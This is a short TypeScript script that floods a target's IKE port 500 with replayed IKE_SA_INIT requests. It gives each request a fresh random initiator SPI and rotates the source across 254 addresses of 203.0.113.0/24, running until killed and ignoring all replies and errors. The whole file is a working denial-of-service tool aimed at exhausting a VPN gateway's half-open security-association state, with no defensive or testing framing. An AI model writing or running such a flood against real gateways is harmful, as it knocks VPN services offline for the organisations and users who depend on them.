/**
 * Sends one recorded IKE_SA_INIT request over and over, with another initiator's SPI each time, from every address of
 * 203.0.113.0/24, to an address on port 500, until it is killed. Arguments: address, message in hex, messages a second.
 */
import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";
import { randomBytes } from "node:crypto";

const [address, hex, perSecond] = process.argv.slice(2);
if (address === undefined || hex === undefined || perSecond === undefined) throw new Error("usage: ADDRESS HEX RATE");
const message = Buffer.from(hex, "hex");
const IKE_PORT = 500;
const TICK_MS = 10;
const sockets: Socket[] = [];
for (let host = 1; host < 255; host++) {
  const socket = createSocket("udp4");
  // Answers are nobody's business here; nor is a full buffer.
  socket.on("message", () => {});
  socket.on("error", () => {});
  socket.bind({ address: `203.0.113.${host}` });
  await once(socket, "listening");
  sockets.push(socket);
}
let turn = 0;
setInterval(() => {
  for (let n = 0; n < (Number(perSecond) * TICK_MS) / 1000; n++) {
    randomBytes(8).copy(message);
    sockets[turn++ % sockets.length]?.send(Buffer.from(message), IKE_PORT, address);
  }
}, TICK_MS);
